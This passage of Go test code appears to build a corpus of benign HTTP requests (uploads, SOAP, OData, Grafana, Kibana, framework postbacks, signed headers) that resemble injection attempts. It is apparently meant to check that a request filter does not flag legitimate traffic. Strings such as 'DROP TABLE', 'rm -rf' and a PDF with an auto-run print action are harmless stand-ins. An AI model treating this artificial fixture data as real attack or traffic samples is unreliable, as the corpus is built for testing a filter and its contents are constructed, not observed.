	svg := `<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="24" height="24"><title>search</title><path d="M15.5 14h-.79l-.28-.27A6.471 6.471 0 0 0 16 9.5 6.5 6.5 0 1 0 9.5 16c1.61 0 3.09-.59 4.23-1.57l.27.28v.79l5 4.99L20.49 19l-4.99-5zm-6 0C7.01 14 5 11.99 5 9.5S7.01 5 9.5 5 14 7.01 14 9.5 11.99 14 9.5 14z"/></svg>`
	pdf := "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (this.print\\({bUI:true}\\);) >> >>\nendobj\n"
	body, ct := multipartOf([][2]string{{"album", "Holiday '24"}, {"caption", "Sunset at Cap d'Antibes — <3"}}, [][4]string{{"photo", "IMG_2041.PNG", "image/png", png}, {"report", "Q3 report (final).pdf", "application/pdf", pdf}, {"import", "contacts.csv", "text/csv", csv}, {"icon", "search.svg", "image/svg+xml", svg}})
	add(realReq{name: "multipart upload of images, PDF, CSV, SVG", method: "POST", target: "/api/uploads", ctype: ct, body: body, hdr: with(hdrChrome)})
	add(realReq{name: "SVG icon saved in JSON", method: "POST", target: "/api/icons", ctype: "application/json", body: jsonOf(map[string]any{"name": "search", "svg": svg}), hdr: with(hdrXHR)})
	add(realReq{name: "CSV import as text/csv", method: "POST", target: "/api/import/contacts", ctype: "text/csv", body: csv, hdr: with(hdrXHR)})
	add(realReq{name: "avatar as data URL", method: "POST", target: "/api/me/avatar", ctype: "application/json", body: jsonOf(map[string]any{"image": "data:image/png;base64," + base64.StdEncoding.EncodeToString([]byte(png))}), hdr: with(hdrXHR)})

	// XML protocols.
	add(realReq{name: "Autodiscover", method: "POST", target: "/autodiscover/autodiscover.xml", ctype: "text/xml", hdr: []string{"User-Agent", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)"},
		body: `<?xml version="1.0" encoding="utf-8"?><Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"><Request><EMailAddress>o'reilly@example.com</EMailAddress><AcceptableResponseSchema>http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema></Request></Autodiscover>`})
	add(realReq{name: "SOAP with WS-Security", method: "POST", target: "/services/OrderService", ctype: "text/xml; charset=utf-8", hdr: []string{"SOAPAction", `"urn:example:orders#PlaceOrder"`, "User-Agent", "Apache-CXF/3.6.4"},
		body: `<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:ord="urn:example:orders"><soapenv:Header><wsse:Security xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd" soapenv:mustUnderstand="1"><wsse:UsernameToken><wsse:Username>svc-orders</wsse:Username><wsse:Password Type="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0#PasswordText">s3cr3t&amp;'pass</wsse:Password></wsse:UsernameToken></wsse:Security></soapenv:Header><soapenv:Body><ord:PlaceOrder><ord:Customer>Smith &amp; Wesson's</ord:Customer><ord:Comment><![CDATA[Deliver between 9 & 5; ring "Reception" <front desk>]]></ord:Comment><ord:Line sku="A-1" qty="2"/></ord:PlaceOrder></soapenv:Body></soapenv:Envelope>`})
	add(realReq{name: "WebDAV PROPPATCH-style PUT of XML", method: "PUT", target: "/remote.php/dav/files/kim/notes.xml", ctype: "application/xml", body: `<?xml version="1.0"?><d:propertyupdate xmlns:d="DAV:" xmlns:oc="http://owncloud.org/ns"><d:set><d:prop><oc:favorite>1</oc:favorite></d:prop></d:set></d:propertyupdate>`, hdr: []string{"User-Agent", "Mozilla/5.0 (Windows) mirall/3.14.3 (Nextcloud, windows-10.0.22631 ClientArchitecture: x86_64 OsArchitecture: x86_64)"}})
	add(realReq{name: "WMS GetMap with CQL filter", left: "a CQL filter has the shape of a quote breakout", method: "GET", hdr: with(hdrChrome, "Referer", "https://maps.example.com/"),
		target: "/geoserver/wms?SERVICE=WMS&VERSION=1.3.0&REQUEST=GetMap&FORMAT=image%2Fpng&TRANSPARENT=true&LAYERS=topp%3Astates&STYLES=&CRS=EPSG%3A3857&WIDTH=768&HEIGHT=512&BBOX=-13884991%2C2870341%2C-7455066%2C6338219&CQL_FILTER=" + url.QueryEscape("STATE_NAME='New York' OR PERSONS>1000000")})
	add(realReq{name: "WFS GetFeature with OGC filter", method: "GET", hdr: with(hdrFirefox),
		target: "/geoserver/wfs?service=WFS&version=2.0.0&request=GetFeature&typeNames=roads&outputFormat=application%2Fjson&count=100&FILTER=" + url.QueryEscape(`<fes:Filter xmlns:fes="http://www.opengis.net/fes/2.0"><fes:PropertyIsLike wildCard="*" singleChar="." escapeChar="!"><fes:ValueReference>name</fes:ValueReference><fes:Literal>St. Mary*</fes:Literal></fes:PropertyIsLike></fes:Filter>`)})
	add(realReq{name: "WFS POST", method: "POST", target: "/geoserver/wfs", ctype: "application/xml",
		body: `<wfs:GetFeature service="WFS" version="2.0.0" xmlns:wfs="http://www.opengis.net/wfs/2.0" xmlns:fes="http://www.opengis.net/fes/2.0" xmlns:gml="http://www.opengis.net/gml/3.2"><wfs:Query typeNames="parcels"><fes:Filter><fes:And><fes:PropertyIsEqualTo><fes:ValueReference>owner</fes:ValueReference><fes:Literal>O'Malley</fes:Literal></fes:PropertyIsEqualTo><fes:BBOX><fes:ValueReference>geom</fes:ValueReference><gml:Envelope srsName="EPSG:4326"><gml:lowerCorner>-6.3 53.3</gml:lowerCorner><gml:upperCorner>-6.2 53.4</gml:upperCorner></gml:Envelope></fes:BBOX></fes:And></fes:Filter></wfs:Query></wfs:GetFeature>`})

	// Query-string languages.
	add(realReq{name: "JSON:API query", method: "GET", hdr: with(hdrXHR, "Accept", "application/vnd.api+json"),
		target: "/api/articles?include=author,comments.author&fields%5Barticles%5D=title,body,created&fields%5Bpeople%5D=name&filter%5Bstatus%5D=published&filter%5Btitle%5D=" + url.QueryEscape("O'Reilly's \"best of\"") + "&sort=-created,title&page%5Bnumber%5D=2&page%5Bsize%5D=20"})
	for _, f := range []string{"Price gt 20 and contains(Name,'O''Neil')", "startswith(CompanyName,'Alfreds') eq true or Country eq 'Germany'", "Category/Name eq 'Beverages' and (UnitPrice le 10 or Discontinued eq false)", "OrderDate ge 2024-01-01T00:00:00Z and substringof('select',Notes)"} {
		add(realReq{name: "OData " + f, method: "GET", hdr: with(hdrXHR, "Accept", "application/json;odata.metadata=minimal"),
			target: "/odata/Products?$filter=" + url.QueryEscape(f) + "&$select=Name,Price&$orderby=Price%20desc&$top=10&$skip=20&$count=true&$expand=" + url.QueryEscape("Category($select=Name),Supplier($filter=Country eq 'UK')")})
	}
	add(realReq{name: "Elasticsearch query from Kibana", method: "POST", target: "/api/console/proxy?path=logs-*%2F_search&method=GET", ctype: "application/json", hdr: with(hdrXHR, "kbn-xsrf", "true"),
		body: `{"size":50,"sort":[{"@timestamp":{"order":"desc"}}],"query":{"bool":{"must":[{"query_string":{"query":"message:\"SELECT * FROM\" AND NOT level:debug","default_operator":"AND"}}],"filter":[{"range":{"@timestamp":{"gte":"now-15m","lte":"now"}}},{"terms":{"service.name":["api","worker"]}}],"should":[{"match_phrase":{"message":"DROP TABLE"}}]}},"aggs":{"by_host":{"terms":{"field":"host.name","size":10}}},"script_fields":{"dur_ms":{"script":{"source":"doc['event.duration'].value / 1000000","lang":"painless"}}}}`})
	add(realReq{name: "Lucene search", method: "GET", target: "/search?q=" + url.QueryEscape(`title:"sql injection" AND (tags:security OR tags:owasp) -draft:true`) + "&fq=" + url.QueryEscape("date:[2024-01-01T00:00:00Z TO NOW]"), hdr: with(hdrFirefox)})

	// Compressed and large bodies.
	var items []any
	for i := 0; len(jsonOf(items)) < 140<<10; i++ {
		items = append(items, map[string]any{"id": i, "sku": fmt.Sprintf("SKU-%06d", i), "name": fmt.Sprintf("Men's wool coat – size %d", 36+i%10), "description": "Warm, water-resistant & machine-washable; 'select' fabric from the union of two mills.", "tags": []string{"winter", "coats", "50% off"}, "url": fmt.Sprintf("https://shop.example.com/p/%d?ref=feed&src=csv", i)})
	}
	big := jsonOf(map[string]any{"products": items})
	add(realReq{name: "large JSON feed above 128 KiB", method: "POST", target: "/api/feeds/import", ctype: "application/json", body: big, hdr: with(hdrXHR)})
	add(realReq{name: "large JSON feed gzip", method: "POST", target: "/api/feeds/import", ctype: "application/json", body: big, gzip: true, hdr: with(hdrXHR)})
	add(realReq{name: "gzip JSON with prose", method: "POST", target: "/api/reviews", ctype: "application/json", gzip: true, hdr: with(hdrMobile),
		body: jsonOf(map[string]any{"rating": 4, "title": "Good, but 'select' sizes run small", "body": "Ordered M & L; L fits like an M. Customer service said \"drop us an e-mail\" -- they did refund <3 days."})})

	// Framework plumbing.
	add(realReq{name: "ASP.NET WebForms postback", method: "POST", target: "/Admin/Orders.aspx?id=42", ctype: "application/x-www-form-urlencoded", hdr: with(hdrEdge, "Origin", "https://intranet.example.com"),
		body: url.Values{"__EVENTTARGET": {"ctl00$MainContent$GridView1"}, "__EVENTARGUMENT": {"Page$3"}, "__LASTFOCUS": {""}, "__VIEWSTATE": {base64.StdEncoding.EncodeToString([]byte("\xff\x01\x0f\x0f\x05\x0b-1234567890\x0f\x16\x02\x1e\x04Text\x05\x0cOrder #42 \u2013 O'Hara\x1e\x07Visible\x68"))}, "__VIEWSTATEGENERATOR": {"CA0B0334"}, "__EVENTVALIDATION": {"/wEdAAWRj0ZXGDuPz3eY1mMz0Z4Fj1oH0K5l"}, "ctl00$MainContent$txtSearch": {"O'Hara & Sons"}, "ctl00$MainContent$ddlStatus": {"Open"}}.Encode()})
	add(realReq{name: "JSF partial ajax", method: "POST", target: "/app/orders.xhtml", ctype: "application/x-www-form-urlencoded;charset=UTF-8", hdr: with(hdrFirefox, "Faces-Request", "partial/ajax"),
		body: url.Values{"javax.faces.partial.ajax": {"true"}, "javax.faces.source": {"form:j_idt42"}, "javax.faces.partial.execute": {"@all"}, "javax.faces.partial.render": {"form:msgs form:table"}, "form:j_idt42": {"form:j_idt42"}, "form": {"form"}, "form:search": {"select * shirts"}, "javax.faces.ViewState": {"-1234567890123456789:9876543210987654321"}}.Encode()})
	add(realReq{name: "Rails nested form with _method", method: "POST", target: "/users/42", ctype: "application/x-www-form-urlencoded", hdr: with(hdrSafari),
		body: "utf8=%E2%9C%93&_method=patch&authenticity_token=" + url.QueryEscape("xT2+yXQ4lKqHZQ1n/Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z==") + "&user%5Bname%5D=Zo%C3%AB+O%27Neill&user%5Baddresses_attributes%5D%5B0%5D%5Bstreet%5D=1+Union+St.&user%5Baddresses_attributes%5D%5B0%5D%5B_destroy%5D=false&user%5Btag_ids%5D%5B%5D=&user%5Btag_ids%5D%5B%5D=3&commit=Update+User"})
	add(realReq{name: "Salesforce Aura action", method: "POST", target: "/s/sfsites/aura?r=3&other.ProductController.getProducts=1", ctype: "application/x-www-form-urlencoded;charset=UTF-8", hdr: with(hdrChrome),
		body: url.Values{"message": {`{"actions":[{"id":"123;a","descriptor":"apex://ProductController/ACTION$getProducts","callingDescriptor":"markup://c:productList","params":{"searchKey":"men's coats","pageSize":12}}]}`}, "aura.context": {`{"mode":"PROD","fwuid":"abcDEF123","app":"siteforce:communityApp","loaded":{"APPLICATION@markup://siteforce:communityApp":"1234_abc"},"dn":[],"globals":{},"uad":false}`}, "aura.pageURI": {"/s/products?category=coats&sort=price"}, "aura.token": {"null"}}.Encode()})
	add(realReq{name: "Next.js server action", method: "POST", target: "/products/42", ctype: "text/plain;charset=UTF-8", hdr: with(hdrChrome, "Next-Action", "7f3a9c2e1b4d5a6f8e0c1d2b3a4f5e6d7c8b9a0f", "Next-Router-State-Tree", "%5B%22%22%2C%7B%22children%22%3A%5B%22products%22%2C%7B%22children%22%3A%5B%5B%22id%22%2C%2242%22%2C%22d%22%5D%2C%7B%22children%22%3A%5B%22__PAGE__%22%2C%7B%7D%5D%7D%5D%7D%5D%7D%2Cnull%2Cnull%2Ctrue%5D", "Accept", "text/x-component"),
		body: `[{"productId":"42","review":"Love it -- but the 'select' size runs small; I'd order one up.","rating":4},"$K1"]`})
	add(realReq{name: "Next.js data route", method: "GET", target: "/_next/data/Ab3dEf6hIj9/en/search.json?q=" + url.QueryEscape("drop-leaf table") + "&sort=relevance", hdr: with(hdrChrome, "x-nextjs-data", "1", "purpose", "prefetch")})
	add(realReq{name: "SignalR negotiate and send", method: "POST", target: "/hubs/chat?id=Ab3dEf6hIj9kLm2nOp5qRs", ctype: "text/plain;charset=UTF-8", hdr: with(hdrChrome, "X-SignalR-User-Agent", "Microsoft SignalR/8.0 (8.0.7; Unknown OS; Browser; Unknown Runtime Version)"),
		body: "{\"protocol\":\"json\",\"version\":1}\x1e{\"type\":1,\"target\":\"SendMessage\",\"arguments\":[\"kim\",\"run `git log --oneline | head` and paste it here\"]}\x1e"})
	add(realReq{name: "Drupal ajax", method: "POST", target: "/node/12/edit?element_parents=field_image/widget/0&ajax_form=1&_wrapper_format=drupal_ajax", ctype: "application/x-www-form-urlencoded; charset=UTF-8", hdr: with(hdrFirefox),
		body: url.Values{"form_build_id": {"form-Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z"}, "form_token": {"Ab3dEf6hIj9kLm2n"}, "form_id": {"node_article_edit_form"}, "title[0][value]": {"Select your plan: union vs. non-union rates"}, "body[0][value]": {"<p>Rates for 2025 &ndash; see table.</p>"}, "body[0][format]": {"basic_html"}, "_triggering_element_name": {"field_image_0_upload_button"}, "ajax_page_state[theme]": {"claro"}, "ajax_page_state[libraries]": {"eJxdjEEOwjAMBD9EyJOQ46yKwbEj2ynt72mFxIHLanZG2mrNWpYeFX-l4cQvFvQ"}}.Encode()})
	add(realReq{name: "WooCommerce store API", method: "POST", target: "/wp-json/wc/store/v1/cart/add-item", ctype: "application/json", hdr: with(hdrChrome, "Nonce", "a1b2c3d4e5", "X-WP-Nonce", "a1b2c3d4e5"),
		body: `{"id":123,"quantity":2,"variation":[{"attribute":"pa_size","value":"xl"},{"attribute":"Engraving","value":"To Mum & Dad -- 25 years <3"}]}`})

	// Monitoring and BI editors.
	add(realReq{name: "Grafana SQL panel query", method: "POST", target: "/api/ds/query?ds_type=grafana-postgresql-datasource", ctype: "application/json", hdr: with(hdrXHR, "X-Grafana-Org-Id", "1"),
		body: jsonOf(map[string]any{"queries": []any{map[string]any{"refId": "A", "datasource": map[string]any{"type": "grafana-postgresql-datasource", "uid": "P44368ADAD746BC27"}, "rawSql": "SELECT $__timeGroupAlias(created_at, '5m'), count(*) AS orders FROM orders WHERE $__timeFilter(created_at) AND status = 'paid' GROUP BY 1 ORDER BY 1", "format": "time_series", "intervalMs": 60000, "maxDataPoints": 1200}}, "from": "now-6h", "to": "now"})})
	add(realReq{name: "Grafana Prometheus and Loki queries", method: "POST", target: "/api/ds/query", ctype: "application/json", hdr: with(hdrXHR),
		body: jsonOf(map[string]any{"queries": []any{
			map[string]any{"refId": "A", "expr": `sum by (instance) (rate(http_requests_total{job="api", status=~"5.."}[5m])) / ignoring(status) group_left sum by (instance) (rate(http_requests_total{job="api"}[5m]))`, "legendFormat": "{{instance}}"},
			map[string]any{"refId": "B", "expr": `{app="nginx", env="prod"} |= "error" != "timeout" | json | line_format "{{.status}} {{.request_uri}}" | __error__=""`, "queryType": "range"},
			map[string]any{"refId": "C", "query": `SELECT mean("usage_idle") FROM "cpu" WHERE ("host" =~ /^web-\d+$/) AND $timeFilter GROUP BY time($__interval), "host" fill(null)`, "rawQuery": true},
		}})})
	add(realReq{name: "Kibana saved search with KQL", method: "POST", target: "/api/saved_objects/search", ctype: "application/json", hdr: with(hdrXHR, "kbn-xsrf", "true"),
		body: `{"attributes":{"title":"5xx from checkout","kibanaSavedObjectMeta":{"searchSourceJSON":"{\"query\":{\"query\":\"http.response.status_code >= 500 and url.path : \\\"/checkout*\\\" and not user_agent.name : \\\"curl\\\"\",\"language\":\"kuery\"},\"filter\":[]}"}}}`})
	add(realReq{name: "Jira JQL search", method: "GET", hdr: with(hdrXHR), target: "/rest/api/3/search?jql=" + url.QueryEscape(`project = WEB AND status in ("In Progress", "Code Review") AND assignee = currentUser() ORDER BY priority DESC, updated DESC`) + "&fields=summary,status,assignee&maxResults=50"})
	add(realReq{name: "SCIM filter", method: "GET", hdr: []string{"Authorization", "Bearer 0123456789abcdef", "Accept", "application/scim+json"}, target: "/scim/v2/Users?filter=" + url.QueryEscape(`userName eq "bjensen@example.com" and (emails.type eq "work" or title pr)`) + "&startIndex=1&count=100"})
	add(realReq{name: "Mongo-like admin filter without operators", method: "POST", target: "/admin/api/collections/orders/find", ctype: "application/json", hdr: with(hdrXHR),
		body: `{"filter":{"status":"shipped","customer.name":"O'Brien"},"sort":{"createdAt":-1},"projection":{"_id":1,"total":1},"limit":50}`})

	// Headers of APIs and proxies.
	add(realReq{name: "API call with tracing and signing headers", method: "POST", target: "/v1/orders", ctype: "application/json", body: `{"sku":"A-1","qty":1}`,
		hdr: []string{"User-Agent", "aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.5 md/GOOS#linux md/GOARCH#amd64 api/dynamodb#1.34.4", "Authorization", "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20261203/eu-west-1/execute-api/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7",
			"X-Amz-Date", "20261203T090000Z", "X-Amz-Content-Sha256", "UNSIGNED-PAYLOAD", "traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01", "tracestate", "congo=t61rcWkgMzE,rojo=00f067aa0ba902b7", "baggage", "userId=alice,serverNode=DF%2028,isProduction=false;meta=1",
			"X-Forwarded-For", "203.0.113.195, 70.41.3.18, 150.172.238.178", "Forwarded", `for=192.0.2.60;proto=https;by=203.0.113.43, for="[2001:db8:cafe::17]:4711"`, "CF-Visitor", `{"scheme":"https"}`, "CF-IPCountry", "IE", "CF-Ray", "8e1f2a3b4c5d6e7f-DUB",
			"Prefer", "return=representation; odata.maxpagesize=50", "If-None-Match", `W/"5e15153d-120f"`, "Idempotency-Key", "0a1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d",
			"Signature-Input", `sig1=("@method" "@authority" "@path" "content-digest");created=1733212800;keyid="test-key-rsa-pss"`, "Signature", "sig1=:HIbjHC5rS0BYaa9v4QfD4193TORw7u9edguPh0AW3dMq9WImrlFrCGUDih47vAxi4L2YRZ3XMJc1uOKk/J0ZmZ+wcta4nKIgBkKq0rM9hs3CQyxXGxHLMCy8uqK488o+9jrptQ+xFPHK7a9sRL1IXNaagCNN3ZxJsYapFj+JXbmaI5rtAdSfSvzPuBCh+ARHBmWuNo1UzVVdHXrl8ePL4cccqlazIJdC4QEjrF+Sn4IxBQzTZsL9y9TP5FsZYzHvDqbInkTNigBcE9cKOYNFCn4D/WM7F6TNuZO9EgtzepLWcjTymlHzK7aXq6Am6sfOrpIC49yXjj3ae6HRalVc/g==:", "Content-Digest", "sha-256=:X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7kbu9DBPE=:"}})
	add(realReq{name: "mobile app GET with JSON header", method: "GET", target: "/api/v3/feed?cursor=eyJpZCI6MTIzLCJ0cyI6IjIwMjYtMTItMDNUMDk6MDA6MDBaIn0&limit=20",
		hdr: with(hdrMobile, "X-Client-Context", `{"locale":"en_IE","tz":"Europe/Dublin","experiments":["new-feed","ab_test:'B'"],"screen":"Home > Feed"}`, "X-Request-Id", "5d4c3b2a-1f0e-9d8c-7b6a-5f4e3d2c1b0a")})
	add(realReq{name: "Link and preload headers", method: "GET", target: "/", hdr: with(hdrChrome, "Cookie", realCookies[10], "Referer", "https://github.com/example/app/pulls?q=is%3Apr+is%3Aopen+%22drop+column%22")})
	add(realReq{name: "WebPush subscription", method: "POST", target: "/api/push/subscribe", ctype: "application/json", hdr: with(hdrFirefox),
		body: `{"endpoint":"https://updates.push.services.mozilla.com/wpush/v2/gAAAAABnT0ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z_Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z","expirationTime":null,"keys":{"auth":"Ab3dEf6hIj9kLm2nOp5qRs","p256dh":"BAb3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAb3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAb3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z"}}`})
	add(realReq{name: "autocomplete", method: "GET", target: "/complete/search?client=firefox&q=" + url.QueryEscape("how to use && in bash if"), hdr: with(hdrFirefox)})
	add(realReq{name: "YouTube embed", method: "GET", target: "/embed/dQw4w9WgXcQ?autoplay=0&mute=1&controls=1&origin=https%3A%2F%2Fblog.example.com&playsinline=1&showinfo=0&rel=0&iv_load_policy=3&modestbranding=1&enablejsapi=1&widgetid=1", hdr: with(hdrChrome, "Sec-Fetch-Dest", "iframe", "Referer", "https://blog.example.com/")})
	add(realReq{name: "map tiles with style JSON", method: "GET", target: "/styles/v1/example/streets/static/-6.26,53.35,12/600x400?access_token=pk.eyJ1IjoiZXhhbXBsZSIsImEiOiJja2FiY2RlZjAxMjM0NTY3ODkifQ.Ab3dEf6hIj9kLm2nOp5qRs&overlay=" + url.QueryEscape(`geojson({"type":"Point","coordinates":[-6.26,53.35]})`), hdr: with(hdrSafari)})

	// Referers of the site's own pages, carrying their queries.
	for i, ref := range []string{
		"https://shop.example.com/search?q=drop+leaf+table&sort=price_asc&filter%5Bcolor%5D%5B%5D=oak&filter%5Bcolor%5D%5B%5D=walnut",
		"https://app.example.com/reports/builder?metrics=revenue,orders&dimensions=country&where=" + url.QueryEscape("country = 'IE' and revenue > 100") + "&range=30d",
		"https://docs.example.com/guide/shell?highlight=" + url.QueryEscape("chmod +x install.sh && ./install.sh"),
		"https://wiki.example.com/index.php?title=Special:Search&search=" + url.QueryEscape("select from where") + "&fulltext=1&ns0=1",
		"https://app.example.com/inbox?folder=INBOX&q=" + url.QueryEscape("from:\"O'Neil, Pat\" subject:(invoice OR receipt) -is:spam"),
		"https://grafana.example.com/explore?orgId=1&left=" + url.QueryEscape(`{"datasource":"loki","queries":[{"refId":"A","expr":"{app=\"api\"} |= \"error\""}],"range":{"from":"now-1h","to":"now"}}`),
		"https://kibana.example.com/app/discover#/?_g=(filters:!(),refreshInterval:(pause:!t,value:0),time:(from:now-15m,to:now))&_a=(columns:!(message),filters:!(),index:'logs-*',interval:auto,query:(language:kuery,query:'status%20%3E%3D%20500'),sort:!(!('@timestamp',desc)))",
		"https://www.google.com/",
		"https://t.co/AbCdEf123",
		"android-app://com.google.android.gm/",
	} {
		add(realReq{name: fmt.Sprintf("referer %d", i), method: "GET", target: "/products/42", hdr: with(hdrChrome, "Referer", ref, "Cookie", realCookies[i%len(realCookies)])})
	}

	// Query strings of dashboards and APIs.
	add(realReq{name: "Kibana URL state", method: "GET", hdr: with(hdrChrome), target: "/app/discover?_g=" + url.QueryEscape("(filters:!(),refreshInterval:(pause:!t,value:0),time:(from:now-15m,to:now))") + "&_a=" + url.QueryEscape("(columns:!(message,host.name),filters:!(),index:'logs-*',query:(language:kuery,query:'http.response.status_code >= 500 and not url.path : \"/health\"'),sort:!(!('@timestamp',desc)))")})
	add(realReq{name: "Grafana explore URL", method: "GET", hdr: with(hdrFirefox), target: "/explore?schemaVersion=1&panes=" + url.QueryEscape(`{"abc":{"datasource":"P8E80F9AEF21F6940","queries":[{"refId":"A","expr":"sum(rate({app=\"nginx\"} |= \"GET /api\" | json | status >= 500 [5m]))","queryType":"range"}],"range":{"from":"now-1h","to":"now"}}}`) + "&orgId=1"})
	add(realReq{name: "Strapi-like filters without operators", method: "GET", hdr: with(hdrXHR), target: "/api/articles?filters%5Btitle%5D=O%27Reilly&populate%5Bauthor%5D%5Bfields%5D%5B0%5D=name&sort%5B0%5D=publishedAt%3Adesc&pagination%5Bpage%5D=1&pagination%5BpageSize%5D=25"})
	add(realReq{name: "PHP array parameters", method: "GET", hdr: with(hdrFirefox), target: "/catalog?cat[]=12&cat[]=15&attr[size][]=M&attr[size][]=L&price[min]=10&price[max]=99.99&q=men%27s+%22wool%22+coat"})
	add(realReq{name: "Algolia search", method: "POST", target: "/1/indexes/*/queries?x-algolia-agent=Algolia%20for%20JavaScript%20(4.24.0)%3B%20Browser%20(lite)%3B%20instantsearch.js%20(4.75.0)&x-algolia-api-key=0123456789abcdef&x-algolia-application-id=ABCDEF1234", ctype: "application/x-www-form-urlencoded", hdr: with(hdrChrome),
		body: `{"requests":[{"indexName":"docs","params":"attributesToRetrieve=%5B%22hierarchy.lvl0%22%2C%22content%22%5D&attributesToSnippet=%5B%22content%3A10%22%5D&highlightPreTag=%3Cmark%3E&highlightPostTag=%3C%2Fmark%3E&hitsPerPage=20&query=rm%20-rf&facetFilters=%5B%22lang%3Aen%22%5D"}]}`})
	add(realReq{name: "search highlight tags in query", method: "GET", hdr: with(hdrChrome), target: "/search?q=union+all&highlightPreTag=%3Cem%3E&highlightPostTag=%3C%2Fem%3E&snippet=%3Cb%3E...%3C%2Fb%3E"})
	add(realReq{name: "Shopify storefront cart update", method: "POST", target: "/cart/update.js", ctype: "application/json", hdr: with(hdrSafari),
		body: `{"updates":{"40123456789":2},"attributes":{"gift_note":"Happy 40th!! <3 -- love, Mum & Dad","delivery_instructions":"Leave with #12 if we're out; don't use the side gate"},"note":"Order ref: 'PO-2024/11/0042'"}`})
	add(realReq{name: "Intercom message", method: "POST", target: "/messenger/web/messages", ctype: "application/json", hdr: with(hdrChrome),
		body: `{"app_id":"abcd1234","conversation_id":"123","body":"<p>Hi! The export shows <code>#VALUE!</code> in column D, and the formula is <code>=IF(A2&gt;0, B2/A2, \"\")</code>. Also &lt;br&gt; tags appear as text.</p>","user_data":{"anonymous_id":"0a1b2c3d"}}`})
	add(realReq{name: "Zendesk ticket with HTML comment", method: "PUT", target: "/api/v2/tickets/4321.json", ctype: "application/json", hdr: with(hdrXHR),
		body: jsonOf(map[string]any{"ticket": map[string]any{"comment": map[string]any{"html_body": `<p>Hello Ms. O'Connor,</p><p>please try the steps below:</p><ol><li>Open <strong>Settings &gt; Privacy</strong></li><li>Click <em>"Clear cookies &amp; site data"</em></li></ol><p><a href="https://help.example.com/hc/en-us/articles/360001?utm_source=ticket" target="_blank" rel="noopener">Full guide</a></p>`, "public": true}, "status": "pending"}})})
	add(realReq{name: "Notion-like block update", method: "POST", target: "/api/v3/saveTransactions", ctype: "application/json", hdr: with(hdrChrome),
		body: `{"requestId":"0a1b2c3d","transactions":[{"id":"t1","spaceId":"s1","operations":[{"pointer":{"table":"block","id":"b1"},"path":["properties","title"],"command":"set","args":[["Run "],["npm ci && npm run build",[["c"]]],[" then deploy with "],["./deploy.sh --env=prod",[["c"]]]]}]}]}`})
	add(realReq{name: "Figma-like comment with mentions", method: "POST", target: "/api/files/abc/comments", ctype: "application/json", hdr: with(hdrChrome),
		body: `{"message":"@Sam can we make the <Button> variant=\"primary\" match the {{brand.primary}} token? Also 1/2 of the icons are 23px vs 24px","client_meta":{"x":120.5,"y":44}}`})
	add(realReq{name: "Swagger UI try-it-out", method: "POST", target: "/v2/pet", ctype: "application/json", hdr: with(hdrChrome, "Referer", "https://petstore.example.com/docs/index.html#/pet/addPet"),
		body: `{"id":0,"category":{"id":0,"name":"dogs"},"name":"doggie","photoUrls":["string"],"tags":[{"id":0,"name":"string"}],"status":"available"}`})
	add(realReq{name: "Postman-style JSON with variables", method: "POST", target: "/api/collections/import", ctype: "application/json", hdr: with(hdrXHR),
		body: `{"info":{"name":"Orders API","schema":"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},"item":[{"name":"Get order","request":{"method":"GET","url":{"raw":"{{baseUrl}}/orders/{{orderId}}?expand=items","host":["{{baseUrl}}"],"path":["orders","{{orderId}}"]},"header":[{"key":"Authorization","value":"Bearer {{token}}"}]},"event":[{"listen":"test","script":{"exec":["pm.test(\"Status code is 200\", function () {","    pm.response.to.have.status(200);","});"],"type":"text/javascript"}}]}]}`})
	add(realReq{name: "OpenAPI spec upload", method: "PUT", target: "/api/specs/orders", ctype: "application/json", hdr: with(hdrXHR),
		body: `{"openapi":"3.0.3","info":{"title":"Orders","version":"1.0"},"paths":{"/orders/{id}":{"get":{"parameters":[{"name":"id","in":"path","required":true,"schema":{"type":"string","pattern":"^[A-Z]{2}-\\d{6}$"}}],"responses":{"200":{"description":"OK","content":{"application/json":{"schema":{"$ref":"#/components/schemas/Order"}}}}}}}},"components":{"schemas":{"Order":{"type":"object","properties":{"id":{"type":"string"},"note":{"type":"string","example":"Leave at the door; ring twice"}}}}}}`})
	add(realReq{name: "i18n messages upload", method: "POST", target: "/api/i18n/fr", ctype: "application/json", hdr: with(hdrXHR),
		body: `{"cart.items":"{count, plural, =0 {Votre panier est vide} one {# article} other {# articles}}","greeting":"Bonjour {name} ! Vous avez <b>{n}</b> nouveaux messages.","footer":"© 2026 Exemple SARL — tous droits réservés","select.placeholder":"Sélectionnez une option…","error.sql":"Une erreur s'est produite ; réessayez (code : {code})."}`})
	add(realReq{name: "Terraform-like config in JSON", method: "POST", target: "/api/workspaces/ws-1/vars", ctype: "application/vnd.api+json", hdr: with(hdrXHR),
		body: `{"data":{"type":"vars","attributes":{"key":"startup_script","value":"#!/bin/bash\napt-get update -y\napt-get install -y nginx\nsystemctl enable --now nginx\necho \"ok\" > /var/www/html/health","category":"terraform","hcl":false,"sensitive":false}}}`, left: "a shell script in a variable value"})
